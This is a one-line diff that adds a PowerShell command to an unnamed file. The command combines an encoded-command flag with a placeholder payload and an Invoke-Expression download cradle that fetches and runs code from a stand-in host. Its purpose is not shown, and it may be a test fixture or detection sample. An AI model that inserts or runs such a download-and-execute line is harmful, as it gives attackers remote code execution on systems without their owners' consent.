@@ -1,0 +1,1 @@
+powershell -enc AAAA; IEX (New-Object Net.WebClient).DownloadString('http://x')
